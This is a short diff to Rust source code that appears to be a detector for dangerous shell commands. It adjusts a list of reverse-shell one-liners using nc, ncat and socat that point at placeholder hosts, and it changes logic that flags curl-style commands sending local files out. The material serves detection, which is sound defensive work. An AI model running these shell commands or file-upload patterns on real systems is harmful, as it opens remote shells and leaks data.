@@ -94,7 +94,7 @@ pub(super) const SHAPES: &[Shape] = &[
             "nc -e /bin/sh 10.0.0.1 4444",
             "ncat --sh-exec bash h 1",
             "ncat -lvp 1 -e bash",
-            "nc -lnvpe 1 sh",
+            "nc -lnvp 1 -e sh",
             "netcat -c sh h 1",
             "socat TCP:h:1 EXEC:sh",
             "socat exec:'bash -li',pty tcp:h:1",
@@ -303,6 +303,7 @@ fn sends_file(command: &Command<'_, '_>) -> bool {
             .texts("-d --data --data-binary --data-ascii --json --data-urlencode --url-query")
             .any(|word| at(word) || word.contains("=@"))
         || command.texts("-F --form").any(|word| word.contains("=@") || word.contains("=<"))
+        || command.known().any(at)
         || (!matches!(command.name, "curl" | "wget" | "wget2")
-            && command.known().any(|word| word.contains("=@") || word.contains(":=@") || at(word)))
+            && command.known().any(|word| word.contains("=@") || word.contains(":=@")))
 }
